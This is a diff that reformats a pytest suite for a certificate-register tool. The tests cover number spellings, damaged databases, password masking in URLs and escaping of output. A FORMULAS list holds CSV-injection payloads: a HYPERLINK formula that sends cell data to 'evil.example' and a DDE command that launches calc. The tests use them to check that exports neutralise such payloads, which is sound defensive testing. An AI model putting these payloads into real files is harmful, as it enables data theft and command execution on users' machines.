@@ -14,16 +14,25 @@ from typing import Any
 
 import pytest
 import sqlalchemy as sa
+from test_batch import HEADER, holders_file
 
 import certgen
 from certgen.batch import render_batch
 from certgen.model.identifiers import canonical_number
 from certgen.register import Register, RegisterError, mask_url
 from conftest import ROOT, SAMPLE_SPEC, create_database
-from test_batch import HEADER, holders_file
 
 #: PB-000005 spelt as an operator may type or paste it: each prints as the same number.
-SPELLINGS = ["PB-000005", "PB\u00a0000005", "PB-\u200b000005", "PB 000005", "PB-5", "pb-000005", "PB  000005", "ＰＢ－０００００５"]
+SPELLINGS = [
+    "PB-000005",
+    "PB\u00a0000005",
+    "PB-\u200b000005",
+    "PB 000005",
+    "PB-5",
+    "pb-000005",
+    "PB  000005",
+    "ＰＢ－０００００５",
+]
 
 
 #: The PostgreSQL register needs the session's server (started once, a few seconds): slow.
@@ -52,19 +61,40 @@ def _certificates(out: Path) -> list[Path]:
 def test_every_spelling_of_a_number_has_one_canonical_form() -> None:
     assert {canonical_number(s) for s in SPELLINGS} == {"pb5"}
     # Other numbers stay other numbers: digit runs apart, another value, another prefix.
-    assert len({canonical_number(s) for s in ("PB-000005", "PB-000050", "PB-000006", "PX-000005", "R1-5", "R15")}) == 6
+    assert (
+        len(
+            {canonical_number(s) for s in ("PB-000005", "PB-000050", "PB-000006", "PX-000005", "R1-5", "R15")}
+        )
+        == 6
+    )
     assert canonical_number("R1-000005") == canonical_number("r1 5")
 
 
-def test_spellings_of_one_number_in_one_holder_file_are_refused(tmp_path: Path, shared_register: str, run_cli: Any) -> None:
+def test_spellings_of_one_number_in_one_holder_file_are_refused(
+    tmp_path: Path, shared_register: str, run_cli: Any
+) -> None:
     holders = _numbered(tmp_path, "holders.csv", *SPELLINGS)
     out = tmp_path / "out"
-    result = run_cli("batch", SAMPLE_SPEC, "--holders", holders, "--out", out, "--register", shared_register, "--workers", "1")
+    result = run_cli(
+        "batch",
+        SAMPLE_SPEC,
+        "--holders",
+        holders,
+        "--out",
+        out,
+        "--register",
+        shared_register,
+        "--workers",
+        "1",
+    )
     assert result.exit_code == 1 and "Traceback" not in result.stderr
     lines = result.stderr.strip().splitlines()
     duplicates = [line for line in lines if "used twice" in line]
     assert len(duplicates) == len(SPELLINGS) - 1  # every spelling after the first
-    assert "'PB-5' is used twice (first at " in result.stderr and "spelt 'PB-000005': the same number" in result.stderr
+    assert (
+        "'PB-5' is used twice (first at " in result.stderr
+        and "spelt 'PB-000005': the same number" in result.stderr
+    )
     assert lines[-1] == f"certgen: error: {len(SPELLINGS) - 1} errors: nothing printed"
     assert _certificates(out) == []
     with Register(shared_register) as reg:
@@ -75,12 +105,28 @@ def test_spellings_of_one_number_in_one_holder_file_are_refused(tmp_path: Path, 
 
 
 @pytest.mark.parametrize("spelling", SPELLINGS[1:])
-def test_a_spelling_of_a_number_in_the_register_is_refused_in_a_later_batch(tmp_path: Path, shared_register: str, spelling: str) -> None:
-    render_batch(SAMPLE_SPEC, _numbered(tmp_path, "first.csv", "PB-000004", "PB-000005"), tmp_path / "one", register=shared_register, workers=1)
+def test_a_spelling_of_a_number_in_the_register_is_refused_in_a_later_batch(
+    tmp_path: Path, shared_register: str, spelling: str
+) -> None:
+    render_batch(
+        SAMPLE_SPEC,
+        _numbered(tmp_path, "first.csv", "PB-000004", "PB-000005"),
+        tmp_path / "one",
+        register=shared_register,
+        workers=1,
+    )
     later = _numbered(tmp_path, "later.csv", "PB-000010", spelling)
     # The spelling as given, quoted with unusual spaces and invisible characters escaped.
-    shown = {"PB 000005": "PB 000005", "PB-5": "PB-5", "pb-000005": "pb-000005", "PB  000005": "'PB\\x20\\x20000005'"}.get(spelling, repr(spelling))
-    with pytest.raises(RegisterError, match=r"1 certificate number is already in the register: (.+) \(in the register as PB-000005, issued, .*later.csv, row 3\)") as info:
+    shown = {
+        "PB 000005": "PB 000005",
+        "PB-5": "PB-5",
+        "pb-000005": "pb-000005",
+        "PB  000005": "'PB\\x20\\x20000005'",
+    }.get(spelling, repr(spelling))
+    with pytest.raises(
+        RegisterError,
+        match=r"1 certificate number is already in the register: (.+) \(in the register as PB-000005, issued, .*later.csv, row 3\)",
+    ) as info:
         render_batch(SAMPLE_SPEC, later, tmp_path / "two", register=shared_register, workers=1)
     assert shown in str(info.value)
     assert _certificates(tmp_path / "two") == []
@@ -88,20 +134,41 @@ def test_a_spelling_of_a_number_in_the_register_is_refused_in_a_later_batch(tmp_
         assert [r.number for r in reg.records()] == ["PB-000004", "PB-000005"]
 
 
-def test_the_database_refuses_a_second_spelling_and_the_sequence_moves_past_every_spelling(tmp_path: Path, shared_register: str) -> None:
-    render_batch(SAMPLE_SPEC, _numbered(tmp_path, "first.csv", "pb 7"), tmp_path / "one", register=shared_register, workers=1)
+def test_the_database_refuses_a_second_spelling_and_the_sequence_moves_past_every_spelling(
+    tmp_path: Path, shared_register: str
+) -> None:
+    render_batch(
+        SAMPLE_SPEC,
+        _numbered(tmp_path, "first.csv", "pb 7"),
+        tmp_path / "one",
+        register=shared_register,
+        workers=1,
+    )
     with Register(shared_register) as reg:
         # Past the batch's check: the unique index refuses it.
-        with pytest.raises(RegisterError, match="would use a certificate number twice"), reg.transaction() as conn:
+        with (
+            pytest.raises(RegisterError, match="would use a certificate number twice"),
+            reg.transaction() as conn,
+        ):
             reg._reserve(conn, 1, 1, [("PB-000007", "X", 1, "f.pdf", 1)])
         assert reg.change("void", ["PB-000007"], note="by another spelling") == 1
         assert [(r.number, r.state) for r in reg.records()] == [("pb 7", "voided")]
-    allocated = render_batch(SAMPLE_SPEC, holders_file(tmp_path, 1), tmp_path / "two", register=shared_register, workers=1)
+    allocated = render_batch(
+        SAMPLE_SPEC, holders_file(tmp_path, 1), tmp_path / "two", register=shared_register, workers=1
+    )
     assert allocated.first_number == "PB-000008"  # "pb 7" is number 7 of the sequence
 
 
-def test_an_older_register_gets_the_canonical_column_or_is_refused_naming_both_spellings(tmp_path: Path, shared_register: str) -> None:
-    render_batch(SAMPLE_SPEC, _numbered(tmp_path, "first.csv", "PB-000001", "PB-000002"), tmp_path / "one", register=shared_register, workers=1)
+def test_an_older_register_gets_the_canonical_column_or_is_refused_naming_both_spellings(
+    tmp_path: Path, shared_register: str
+) -> None:
+    render_batch(
+        SAMPLE_SPEC,
+        _numbered(tmp_path, "first.csv", "PB-000001", "PB-000002"),
+        tmp_path / "one",
+        register=shared_register,
+        workers=1,
+    )
     with Register(shared_register) as reg, reg.engine.connect() as conn:
         assert Register._schema_ready(conn)  # an up-to-date register is opened without the schema lock
     url = shared_register if "://" in shared_register else f"sqlite:///{shared_register}"
@@ -124,9 +191,18 @@ def test_an_older_register_gets_the_canonical_column_or_is_refused_naming_both_s
     with Register(shared_register) as reg:  # migrated on opening
         assert reg.check().endswith("each number once, sequences past every number)")
     with pytest.raises(RegisterError, match=r"in the register as PB-000002"):
-        render_batch(SAMPLE_SPEC, _numbered(tmp_path, "again.csv", "pb 2"), tmp_path / "two", register=shared_register, workers=1)
+        render_batch(
+            SAMPLE_SPEC,
+            _numbered(tmp_path, "again.csv", "pb 2"),
+            tmp_path / "two",
+            register=shared_register,
+            workers=1,
+        )
     make_old("pb-2")  # an older certgen let the same number in twice
-    with pytest.raises(RegisterError, match=r"holds numbers that are one number spelt two ways \('PB-000002' and 'pb-2' of 885218305\)") as info:
+    with pytest.raises(
+        RegisterError,
+        match=r"holds numbers that are one number spelt two ways \('PB-000002' and 'pb-2' of 885218305\)",
+    ) as info:
         Register(shared_register)
     assert "\n" not in str(info.value)
     with engine.connect() as conn:  # refused: left as it was
@@ -146,22 +222,41 @@ def _overwrite_page(path: Path, table: str, data: bytes | None) -> None:
     conn.close()
     with path.open("r+b") as stream:
         stream.seek((page - 1) * page_size)
-        stream.write(data[:page_size].ljust(page_size, b"\0") if data is not None else bytes(range(256)) * (page_size // 256))
+        stream.write(
+            data[:page_size].ljust(page_size, b"\0")
+            if data is not None
+            else bytes(range(256)) * (page_size // 256)
+        )
 
 
 @pytest.mark.parametrize("damage", ["garbage", "empty index page"])
-def test_a_damaged_register_is_refused_by_the_batch_and_register_commands(tmp_path: Path, run_cli: Any, damage: str) -> None:
+def test_a_damaged_register_is_refused_by_the_batch_and_register_commands(
+    tmp_path: Path, run_cli: Any, damage: str
+) -> None:
     register = tmp_path / "register.sqlite"
     render_batch(SAMPLE_SPEC, holders_file(tmp_path, 30), tmp_path / "one", register=register, workers=1)
     checked = run_cli("register", "check", "--register", register)
-    assert checked.exit_code == 0 and "ok (SQLite integrity_check ok, 1 security, 30 certificates" in checked.stdout
+    assert (
+        checked.exit_code == 0
+        and "ok (SQLite integrity_check ok, 1 security, 30 certificates" in checked.stdout
+    )
     # The index of the securities' keys: garbage, or a well-formed page that holds no key.
-    _overwrite_page(register, "sqlite_autoindex_securities_1", None if damage == "garbage" else bytes([0x0A, 0, 0, 0, 0, 0x10, 0, 0]))
+    _overwrite_page(
+        register,
+        "sqlite_autoindex_securities_1",
+        None if damage == "garbage" else bytes([0x0A, 0, 0, 0, 0, 0x10, 0, 0]),
+    )
     more = holders_file(tmp_path, 5, name="more.csv", start=40)
     out = tmp_path / "two"
-    batch = run_cli("batch", SAMPLE_SPEC, "--holders", more, "--out", out, "--register", register, "--workers", "1")
+    batch = run_cli(
+        "batch", SAMPLE_SPEC, "--holders", more, "--out", out, "--register", register, "--workers", "1"
+    )
     assert batch.exit_code == 1 and "Traceback" not in batch.stderr
-    assert len(batch.stderr.strip().splitlines()) == 1 and "is damaged" in batch.stderr and "restore it from a backup" in batch.stderr
+    assert (
+        len(batch.stderr.strip().splitlines()) == 1
+        and "is damaged" in batch.stderr
+        and "restore it from a backup" in batch.stderr
+    )
     assert _certificates(out) == [] and not (out / "manifest.json").exists()
     for command in (("list",), ("export", "--format", "csv"), ("check",)):
         result = run_cli("register", *command, "--register", register)
@@ -173,8 +268,12 @@ def test_a_damaged_register_is_refused_by_the_batch_and_register_commands(tmp_pa
     conn.close()
 
 
-def test_register_check_finds_a_sequence_behind_its_numbers(tmp_path: Path, shared_register: str, run_cli: Any) -> None:
-    render_batch(SAMPLE_SPEC, holders_file(tmp_path, 3), tmp_path / "one", register=shared_register, workers=1)
+def test_register_check_finds_a_sequence_behind_its_numbers(
+    tmp_path: Path, shared_register: str, run_cli: Any
+) -> None:
+    render_batch(
+        SAMPLE_SPEC, holders_file(tmp_path, 3), tmp_path / "one", register=shared_register, workers=1
+    )
     assert run_cli("register", "check", "--register", shared_register).exit_code == 0
     url = shared_register if "://" in shared_register else f"sqlite:///{shared_register}"
     engine = sa.create_engine(url)
@@ -190,7 +289,13 @@ def test_register_check_finds_a_sequence_behind_its_numbers(tmp_path: Path, shar
 
 # -- CSV that a spreadsheet opens --------------------------------------------------------
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(A1:A9)",
+    "-2+3+cmd|' /C calc'!A0",
+]
 
 
 def test_formulas_in_the_data_are_text_in_control_csv_and_register_export_but_unchanged_in_json(
@@ -199,14 +304,20 @@ def test_formulas_in_the_data_are_text_in_control_csv_and_register_export_but_un
     spec_data["security"]["certificate_prefix"] = ""  # numbers as the holder file gives them
     spec = write_spec(spec_data)
     numbers = ["=1+2", "+3+4", "@5", "-6"]
-    rows = [f'"{n}","{f.replace(chr(34), chr(34) * 2)}",100,2026-11-23' for n, f in zip(numbers, FORMULAS)]
+    rows = [
+        f'"{n}","{f.replace(chr(34), chr(34) * 2)}",100,2026-11-23'
+        for n, f in zip(numbers, FORMULAS, strict=False)
+    ]
     holders = tmp_path / "holders.csv"
     holders.write_text("certificate_number," + HEADER + "\n".join(rows) + "\n", encoding="utf-8")
     out = tmp_path / "out"
     result = run_cli("batch", spec, "--holders", holders, "--out", out, "--workers", "1")
     assert result.exit_code == 0, result.stderr
     register = out / "register.sqlite"
-    assert run_cli("register", "void", "--register", register, "--note", "=HYPERLINK(\"x\")", "--", "-6").exit_code == 0
+    assert (
+        run_cli("register", "void", "--register", register, "--note", '=HYPERLINK("x")', "--", "-6").exit_code
+        == 0
+    )
     control = dict(csv.reader(io.StringIO((out / "control.csv").read_text(encoding="utf-8"))))
     assert (control["first number"], control["last number"]) == ("'=1+2", "'-6")
     manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
@@ -215,30 +326,50 @@ def test_formulas_in_the_data_are_text_in_control_csv_and_register_export_but_un
     exported = list(csv.DictReader(io.StringIO(run_cli("register", "export", "--register", register).stdout)))
     assert [r["number"] for r in exported] == ["'" + n for n in numbers]
     assert [r["registration"] for r in exported] == ["'" + f for f in FORMULAS[:4]]
-    assert exported[-1]["note"] == "'=HYPERLINK(\"x\")"
+    assert exported[-1]["note"] == '\'=HYPERLINK("x")'
     assert not any(cell[:1] in "=+-@\t\r" for row in exported for cell in row.values() if cell)
     as_json = json.loads(run_cli("register", "export", "--register", register, "--format", "json").stdout)
-    assert [r["number"] for r in as_json] == numbers and as_json[-1]["note"] == "=HYPERLINK(\"x\")"
+    assert [r["number"] for r in as_json] == numbers and as_json[-1]["note"] == '=HYPERLINK("x")'
 
 
 # -- two processes on a new register -------------------------------------------------------
 
 
 def _batch_process(holders: Path, out: Path, register: str) -> subprocess.Popen[str]:
-    command = [sys.executable, "-m", "certgen", "batch", str(SAMPLE_SPEC), "--holders", str(holders), "--out", str(out),
-               "--register", register, "--workers", "1", "--json"]
+    command = [
+        sys.executable,
+        "-m",
+        "certgen",
+        "batch",
+        str(SAMPLE_SPEC),
+        "--holders",
+        str(holders),
+        "--out",
+        str(out),
+        "--register",
+        register,
+        "--workers",
+        "1",
+        "--json",
+    ]
     return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
 
 
 @pytest.mark.parametrize("dialect", ["sqlite", pytest.param("postgresql", marks=pytest.mark.slow)])
-def test_two_batches_starting_at_once_on_a_new_register_both_print(tmp_path: Path, request: pytest.FixtureRequest, dialect: str) -> None:
+def test_two_batches_starting_at_once_on_a_new_register_both_print(
+    tmp_path: Path, request: pytest.FixtureRequest, dialect: str
+) -> None:
     for trial in range(3):
         if dialect == "sqlite":
             register = str(tmp_path / f"register-{trial}.sqlite")
         else:
             register = create_database(request.getfixturevalue("postgres_server"))
         runs = [
-            _batch_process(holders_file(tmp_path, 3, name=f"h{trial}{k}.csv", start=10 * k + 1), tmp_path / f"out{trial}{k}", register)
+            _batch_process(
+                holders_file(tmp_path, 3, name=f"h{trial}{k}.csv", start=10 * k + 1),
+                tmp_path / f"out{trial}{k}",
+                register,
+            )
             for k in (0, 1)
         ]
         results = [(run.wait(timeout=120), run.stdout.read(), run.stderr.read()) for run in runs]  # type: ignore[union-attr]
@@ -257,21 +388,50 @@ def test_two_batches_starting_at_once_on_a_new_register_both_print(tmp_path: Pat
 
 
 def test_database_url_secrets_are_masked() -> None:
-    assert mask_url("postgresql+psycopg://clerk:s3cret@db.example/register") == "postgresql+psycopg://clerk:***@db.example/register"
-    assert mask_url("postgresql+psycopg://clerk:p@ss:w@db.example/r") == "postgresql+psycopg://clerk:***@db.example/r"
-    masked = mask_url("postgresql+psycopg:///r?host=/run/pg&password=s3cret&passfile=/home/c/.pgpass&sslpassword=k3y&p%61ssword=x1y&user=clerk")
-    assert masked == "postgresql+psycopg:///r?host=/run/pg&password=***&passfile=***&sslpassword=***&p%61ssword=***&user=clerk"
+    assert (
+        mask_url("postgresql+psycopg://clerk:s3cret@db.example/register")
+        == "postgresql+psycopg://clerk:***@db.example/register"
+    )
+    assert (
+        mask_url("postgresql+psycopg://clerk:p@ss:w@db.example/r")
+        == "postgresql+psycopg://clerk:***@db.example/r"
+    )
+    masked = mask_url(
+        "postgresql+psycopg:///r?host=/run/pg&password=s3cret&passfile=/home/c/.pgpass&sslpassword=k3y&p%61ssword=x1y&user=clerk"
+    )
+    assert (
+        masked
+        == "postgresql+psycopg:///r?host=/run/pg&password=***&passfile=***&sslpassword=***&p%61ssword=***&user=clerk"
+    )
     assert mask_url("sqlite:////srv/registers/r.sqlite") == "sqlite:////srv/registers/r.sqlite"
 
 
-def test_the_password_of_a_register_url_is_in_no_message_summary_or_file(tmp_path: Path, postgres_url: str, run_cli: Any) -> None:
+def test_the_password_of_a_register_url_is_in_no_message_summary_or_file(
+    tmp_path: Path, postgres_url: str, run_cli: Any
+) -> None:
     url = f"{postgres_url}&password=hunter2secret"  # the test server trusts every password
     out = tmp_path / "out"
-    done = run_cli("batch", SAMPLE_SPEC, "--holders", holders_file(tmp_path, 2), "--out", out, "--register", url, "--workers", "1", "--json")
+    done = run_cli(
+        "batch",
+        SAMPLE_SPEC,
+        "--holders",
+        holders_file(tmp_path, 2),
+        "--out",
+        out,
+        "--register",
+        url,
+        "--workers",
+        "1",
+        "--json",
+    )
     assert done.exit_code == 0, done.stderr
     assert json.loads(done.stdout)["register"].endswith("&password=***")
     assert all(b"hunter2secret" not in p.read_bytes() for p in out.iterdir())
-    for bad in (url.replace("postgresql+psycopg", "postgresql+nodriver"), url.replace("/t_", "/missing_"), "postgresql+psycopg://clerk:hunter2secret@[::1/x"):
+    for bad in (
+        url.replace("postgresql+psycopg", "postgresql+nodriver"),
+        url.replace("/t_", "/missing_"),
+        "postgresql+psycopg://clerk:hunter2secret@[::1/x",
+    ):
         refused = run_cli("register", "list", "--register", bad)
         assert refused.exit_code == 1 and "Traceback" not in refused.stderr
         assert "hunter2secret" not in refused.stderr and "***" in refused.stderr, refused.stderr
@@ -289,7 +449,9 @@ def test_register_list_escapes_control_and_invisible_characters(tmp_path: Path, 
     fields = listed.stdout.rstrip("\n").split("\t")
     assert len(fields) == 6
     assert fields[4] == "JOHN DOE\\u202eOC & HTIMS\\x1b[2J\\x9b31m\\u200bX\\x09Y"
-    assert not any(ord(c) < 32 and c not in "\t\n" or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u200b" for c in listed.stdout)
+    assert not any(
+        ord(c) < 32 and c not in "\t\n" or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u200b" for c in listed.stdout
+    )
     exported = json.loads(run_cli("register", "export", "--register", register, "--format", "json").stdout)
     assert exported[0]["registration"] == hostile  # the export keeps what the register holds
 
@@ -298,7 +460,9 @@ def test_register_list_escapes_control_and_invisible_characters(tmp_path: Path, 
 
 
 @pytest.mark.parametrize("error", ["sqlite", "oserror"])
-def test_a_full_disk_when_the_register_commits_is_one_line(tmp_path: Path, run_cli: Any, monkeypatch: pytest.MonkeyPatch, error: str) -> None:
+def test_a_full_disk_when_the_register_commits_is_one_line(
+    tmp_path: Path, run_cli: Any, monkeypatch: pytest.MonkeyPatch, error: str
+) -> None:
     import errno
 
     from sqlalchemy.dialects.sqlite.pysqlite import SQLiteDialect_pysqlite
@@ -317,10 +481,16 @@ def test_a_full_disk_when_the_register_commits_is_one_line(tmp_path: Path, run_c
     out.mkdir()
     Register(out / "register.sqlite").close()  # the register exists
     monkeypatch.setattr(SQLiteDialect_pysqlite, "do_commit", full)
-    result = run_cli("batch", SAMPLE_SPEC, "--holders", holders_file(tmp_path, 2), "--out", out, "--workers", "1")
+    result = run_cli(
+        "batch", SAMPLE_SPEC, "--holders", holders_file(tmp_path, 2), "--out", out, "--workers", "1"
+    )
     assert result.exit_code == 1 and "Traceback" not in result.stderr
     lines = [line for line in result.stderr.splitlines() if not line.startswith("certgen: rendered")]
-    assert len(lines) == 1 and "cannot write the register" in lines[0] and ("disk is full" in lines[0] or "No space left" in lines[0])
+    assert (
+        len(lines) == 1
+        and "cannot write the register" in lines[0]
+        and ("disk is full" in lines[0] or "No space left" in lines[0])
+    )
     assert "nothing of this change was recorded" in lines[0]
     assert _certificates(out) == [] and not (out / "manifest.json").exists()
     assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
